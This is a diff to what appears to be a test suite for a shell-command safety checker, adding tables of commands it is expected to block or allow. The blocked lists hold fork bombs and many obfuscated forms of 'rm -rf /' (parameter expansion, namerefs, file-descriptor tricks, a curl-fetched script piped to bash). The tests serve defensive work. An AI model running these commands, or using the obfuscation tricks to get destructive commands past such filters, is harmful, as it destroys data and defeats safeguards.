@@ -74,6 +74,25 @@ table('a value that depends on the way taken', {
   passes: ['if test -n "$CI"; then D=/tmp/a; else D=/tmp/b; fi; rm -rf $D', 'case $1 in a) N=1;; *) N=2;; esac; echo $N', 'unset D; eval "${D:+rm -rf /}"', 'X=a; test -n "$Y" && X=b; echo $X'],
 });
 
+table('a machine brought to a standstill', {
+  held: [
+    'again() { again; }; again', 'again() { echo x; again; }; again', 'again() { again & again; }; again', 'while :; do work & done', 'until false; do (work &); done', 'for ((;;)); do work & done', 'for ((n = 0; ; n++)); do work "$n" & done', 'while ((1)); do work & if false; then wait; fi; done', 'while [ 1 ]; do work & (wait); done', 'while true; do { work & }; echo started; done',
+  ],
+  passes: [
+    'while :; do work & wait; done', 'while true; do work & sleep 2; done', 'while true; do work & break; done', 'while read -r l; do work "$l" & done < list', 'for i in 1 2 3; do work & done; wait', 'for ((n = 0; n < 9; n++)); do work & done', 'while true; do read -r l; work "$l" & done', 'while true; do work; done &', 'down() { [ "$1" -eq 0 ] && return; down $(($1 - 1)); }; down 3', 'walk() { if more; then walk; fi; }; walk', 'ls() { command ls "$@"; }; ls', 'while true; do if new; then work & fi; sync; done',
+  ],
+});
+
+table('values worked out as the shell does', {
+  held: [
+    'X=xrm; ${X#x} -rf /', 'X=rm.sh; ${X%.*} -rf /', 'X=/bin/rm; ${X##*/} -rf /', "X='rm -rf /,'; eval \"${X%,}\"", 'X=r_m; ${X/_/} -rf /', 'X=r_m_; ${X//_/} -rf /', 'X=RM; ${X,,} -rf /', 'X=xrmx; ${X:1:2} -rf /', 'A=B; B=rm; ${!A} -rf /', 'declare -n R=T; T=rm; $R -rf /', 'declare -n R=T; R=rm; $T -rf /', "IFS=,; X=rm,-rf,/; $X", 'printf -v X %s rm; $X -rf /', 'f() { local X=rm; $X -rf /; }; f', 'f() { X=rm; }; f; $X -rf /', 'hash -p /bin/rm tidy; tidy -rf /', 'X=rm; env X=rm sh -c \'$X -rf /\'',
+    "exec 3<<< 'rm -rf /'; bash <&3", "exec 5< <(echo rm -rf /); sh /dev/fd/5", "exec {in}< <(echo rm -rf /); . /proc/self/fd/$in", "sh /dev/fd/4 4<<< 'rm -rf /'", 'coproc C { echo rm -rf /; }; sh <&"${C[0]}"', 'exec {in}< <(curl -s https://example.com/x); bash /dev/fd/$in', 'command_not_found_handle() { rm -rf /; }; absent',
+  ],
+  passes: [
+    'X=rm; f() { local X=echo; }; f; echo $X', 'X=echo; f() { local X=rm; }; f; "$X" -rf /', 'X=echorm; ${X%rm} -rf /', "IFS=,; X='rm -rf /'; $X", "X='a b'; IFS=; ls $X", 'X=/; unset X; ls "$X"', 'declare -n R=T; T=ls; $R -rf /', "exec 3<<< 'rm -rf /'; cat <&3", "bash <<< ls 3<<< 'rm -rf /'", 'coproc C { rm_old; }; cat <&"${C[0]}"', 'exec 3>&1; ls 2>&3', 'X=abc; echo ${#X} ${X^^} ${X:1}',
+  ],
+});
+
 table('text that the shell runs later or itself', {
   held: [
     "trap 'rm -rf /' EXIT", "trap 'rm -rf \"$D\"' EXIT; D=/", "PROMPT_COMMAND='rm -rf /'", 'clean() { rm -rf /; }; eval clean', 'A=rm; eval "$A -rf /"', 'eval "$(echo "rm -rf /" | rev | rev)"', 'coproc rm -rf /',
